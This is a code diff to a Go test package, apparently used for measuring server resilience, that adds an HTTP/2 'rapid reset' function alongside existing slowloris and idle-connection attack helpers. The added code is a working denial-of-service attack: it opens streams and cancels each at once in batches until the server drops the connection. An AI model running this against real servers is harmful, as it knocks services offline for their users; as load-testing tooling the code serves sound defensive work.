@@ -1,12 +1,14 @@
 // Package httpattack runs the connection-level attacks on an HTTP listener
 // that its tests and measurements need, from a chosen loopback source
 // address, bounded in count: slowloris (bodies trickled a byte at a time),
-// idle keep-alive connections, clients that never read their answer, and a
+// idle keep-alive connections, clients that never read their answer,
+// HTTP/2 streams reset as soon as they are opened (rapid reset), and a
 // neighbour's loop of legitimate calls to measure what is left for it.
 package httpattack
 
 import (
 	"bufio"
+	"bytes"
 	"context"
 	"errors"
 	"fmt"
@@ -19,6 +21,9 @@ import (
 	"syscall"
 	"time"
 	"unsafe"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 )
 
 // Dial connects to addr from the source IP src ("" for any), with a
@@ -280,4 +285,61 @@ func ioctlInt(fd uintptr, req uintptr) (int, error) {
 		return 0, errno
 	}
 	return int(n), nil
+}
+
+// RapidReset opens an HTTP/2 connection (cleartext, prior knowledge) from
+// src to addr and opens streams of method on path with headers, each
+// reset (RST_STREAM, CANCEL) as soon as its HEADERS are sent, in batches of
+// 100 with a millisecond between them so the server reads what it is sent,
+// until the server closes the connection or up to streams are sent. It
+// returns how many were sent, and whether the server closed the connection
+// then or within a minute after.
+func RapidReset(ctx context.Context, src, addr, method, path string, headers [][2]string, streams int) (sent int, closed bool, err error) {
+	c, err := Dial(ctx, src, addr, 0)
+	if err != nil {
+		return 0, false, err
+	}
+	defer c.Close()
+	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+		return 0, false, err
+	}
+	fr := http2.NewFramer(c, c)
+	if err := fr.WriteSettings(); err != nil {
+		return 0, false, err
+	}
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for _, f := range append([][2]string{{":method", method}, {":scheme", "http"}, {":path", path}, {":authority", addr}}, headers...) {
+		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+	}
+	gone := make(chan struct{})
+	go func() {
+		defer close(gone)
+		for {
+			if _, err := fr.ReadFrame(); err != nil {
+				return
+			}
+		}
+	}()
+	for id := uint32(1); sent < streams; id += 2 {
+		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}) != nil ||
+			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			break // the server closed the connection
+		}
+		if sent++; sent%100 != 0 {
+			continue
+		}
+		time.Sleep(time.Millisecond)
+		select {
+		case <-gone:
+			return sent, true, nil
+		default:
+		}
+	}
+	select {
+	case <-gone:
+		return sent, true, nil
+	case <-time.After(time.Minute):
+		return sent, false, nil
+	}
 }
